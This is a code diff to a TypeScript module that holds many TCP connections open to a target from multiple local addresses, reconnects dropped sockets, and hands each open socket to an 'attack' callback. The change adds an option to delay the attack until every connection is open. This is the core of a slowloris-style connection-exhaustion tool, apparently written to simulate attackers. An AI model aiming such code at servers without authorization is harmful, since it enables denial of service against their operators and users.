@@ -8,7 +8,9 @@ export interface ConnectionOptions {
   readonly perAddress: number;
   /** Whether a connection that ends is replaced by a new one. */
   readonly reconnects: boolean;
-  /** Attacks. Called for each connection when it is open. */
+  /** Whether the attack begins when all connections are open: an attacker who already sends is slow to open more. */
+  readonly opensAllFirst?: boolean;
+  /** Attacks on one connection. */
   onOpen(socket: Socket): void;
 }
 
@@ -20,13 +22,14 @@ const RECONNECT_MS = 100;
 /** Holds connections open until the signal aborts. */
 export async function holdConnections(target: Target, options: ConnectionOptions, signal: AbortSignal) {
   const sockets = new Set<Socket>();
+  let isAttacking = options.opensAllFirst !== true;
   const open = (number: number) => {
     if (signal.aborted) return;
     const { host, port } = target;
     const localAddress = addressOf(Math.floor(number / options.perAddress));
     const socket = connect({ host, port, localAddress });
     sockets.add(socket);
-    socket.on("connect", () => options.onOpen(socket));
+    socket.on("connect", () => isAttacking && options.onOpen(socket));
     socket.on("error", () => {});
     socket.on("close", () => {
       sockets.delete(socket);
@@ -36,6 +39,10 @@ export async function holdConnections(target: Target, options: ConnectionOptions
   for (let number = 0; number < options.count && !signal.aborted; number++) {
     open(number);
     if (number % OPENED_AT_ONCE === 0) await Bun.sleep(PAUSE_MS);
+  }
+  if (options.opensAllFirst) {
+    isAttacking = true;
+    for (const socket of sockets) if (!socket.connecting) options.onOpen(socket);
   }
   await new Promise<void>((resolve) => {
     if (signal.aborted) resolve();
